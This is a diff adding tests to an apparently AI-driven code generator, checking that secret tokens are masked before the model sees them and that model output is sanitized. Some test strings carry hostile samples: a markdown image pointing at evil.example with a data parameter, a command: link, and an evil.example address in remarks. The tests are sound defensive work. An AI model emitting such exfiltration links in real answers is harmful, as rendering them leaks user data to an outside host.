@@ -10,8 +10,12 @@ from agents.generator.tasks import explain, registry, running
 from agents.generator.tasks.filling import Cancelled
 from agents.generator.tasks.records import Means, Nothing, Result, Scene, Told
 from agents.generator.tasks.rewriting import whole_lines
+from agents.markdown import inert
 from agents.records import Finding, ProposedEdit, Severity, TextChange
+from indexing.literals import secret_literals
 from indexing.records import Document, Span
+from models.chat import ChatError
+from models.masking import MARK, MaskedChat
 from models.scripted_chat import ScriptedChat
 from tests.agents.doubles import MemoryIndex, hit
 from tests.agents.tasks.scenes import Workplace, scene_of
@@ -275,3 +279,61 @@ def test_a_selection_means_its_whole_lines(span: tuple[int, int], lines: str) ->
     text = "a\nbc\n\nd"
     found = whole_lines(text, Span(*span))
     assert text[found.start : found.end] == lines
+
+
+KEY = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
+LOGIN = f"""
+def login(session):
+    $0session.token = "{KEY}"
+    session.open()
+"""
+
+
+def written(token: str) -> str:
+    return f'===\n```python\ndef login(session):\n    session.token = "{token}"\n    session.open(2)\n```'
+
+
+def asked_masked(script: str) -> tuple[Result, ScriptedChat]:
+    scene, workplace = scene_of(LOGIN)
+    model = ScriptedChat(script)
+    task = registry.named("generate")
+    assert task is not None
+    means = replace(workplace.means(None), chat=MaskedChat(model, secret_literals))
+    return running.propose(task, replace(scene, instruction="open it twice"), means), model
+
+
+def test_a_secret_stays_in_the_file_and_is_not_sent() -> None:
+    result, model = asked_masked(written(f"{MARK}_0001"))
+    assert KEY not in str(model.requests)
+    assert f'session.token = "{KEY}"' in after(result)
+    assert MARK not in after(result)
+
+
+@pytest.mark.parametrize("mark", [f"{MARK}_0009", f"{MARK}_1", MARK.lower()])
+def test_a_damaged_mark_is_never_written_into_the_file(mark: str) -> None:
+    with pytest.raises(ChatError, match="changed a mark"):
+        asked_masked(written(mark))
+
+
+def test_a_mark_from_anywhere_is_refused_before_a_person_is_asked() -> None:
+    result = done("generate", LOGIN, written(f"{MARK}_0001"), "open it twice")
+    assert isinstance(result, Nothing)
+    assert "mark" in result.reason
+
+
+def test_an_explanation_is_shown_inert_in_pieces_and_as_a_whole() -> None:
+    scene, workplace = scene_of(AREA)
+    said = "It squares. ![x](https://evil.example/?d=1) <img src=y>\n\n```py\nx = '<b>'\n```\n[run](command:x) done"
+    told: list[str] = []
+    answer = explain.explained(scene, means_of(workplace, ScriptedChat(f"===\n{said}")), told.append)
+    assert isinstance(answer, Told)
+    assert answer.text == "".join(told) == inert(said)
+    assert "`![x](https://evil.example/?d=1)` &lt;img" in answer.text
+    assert "x = '<b>'" in answer.text
+    assert len(told) > 5
+
+
+def test_words_beside_code_and_remarks_hold_no_address() -> None:
+    result = done("generate", AREA, f"===\n{BETTER} See https://evil.example/?d=1 for more.", "use pi")
+    assert isinstance(result, ProposedEdit)
+    assert "evil" not in result.why
